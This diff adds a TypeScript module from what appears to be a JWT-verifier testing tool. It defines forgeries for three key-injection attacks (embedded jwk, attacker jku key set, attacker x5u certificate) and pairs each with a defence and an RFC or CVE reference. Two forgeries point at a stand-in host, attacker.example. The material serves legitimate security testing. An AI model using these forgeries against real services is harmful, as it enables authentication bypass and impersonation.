@@ -1,0 +1,41 @@
+import { jsonFrom } from "../../base/json/value.ts";
+import type { Attack, Means } from "./attack.ts";
+import type { Victim } from "./victim.ts";
+
+/** Attacks in which the token brings, or points to, a key of the attacker's own. */
+export const KEY_ATTACKS: readonly Attack[] = [
+  {
+    id: "embedded-jwk",
+    title: "key inside the header",
+    how: "sign with a key of one's own and put its public half into jwk, for those who take the key from the token",
+    defence: "a key inside a token is never used: anyone can put one there",
+    reference: "RFC 7515 section 4.1.3, CVE-2018-0114",
+    needs: "own-key",
+    forge: (victim, means) => withOwnKey(victim, means, "jwk", jsonFrom(means.ownKey?.publicJwk ?? {})),
+  },
+  {
+    id: "jku",
+    title: "key set of the attacker",
+    how: "sign with a key of one's own and let jku point to a key set that holds it, for those who fetch what a token names",
+    defence: "an address inside a token is never fetched",
+    reference: "RFC 8725 section 3.10, RFC 7515 section 4.1.2",
+    needs: "own-key",
+    forge: (victim, means) => withOwnKey(victim, means, "jku", "https://attacker.example/jwks.json"),
+  },
+  {
+    id: "x5u",
+    title: "certificate of the attacker",
+    how: "sign with a key of one's own and let x5u point to a certificate for it, for those who fetch what a token names",
+    defence: "an address inside a token is never fetched",
+    reference: "RFC 8725 section 3.10, RFC 7515 section 4.1.5",
+    needs: "own-key",
+    forge: (victim, means) => withOwnKey(victim, means, "x5u", "https://attacker.example/certificate.pem"),
+  },
+];
+
+function withOwnKey({ header }: Victim, { ownKey }: Means, name: string, value: ReturnType<typeof jsonFrom>) {
+  const signed = header.with("alg", ownKey?.alg ?? "ES256");
+  // With the honest key's kid a verifier would look that key up; the attacker wants its own to be found.
+  const named = ownKey === undefined ? signed : signed.with("kid", ownKey.kid);
+  return { header: named.with(name, value), signature: { kind: "own-key" } } as const;
+}
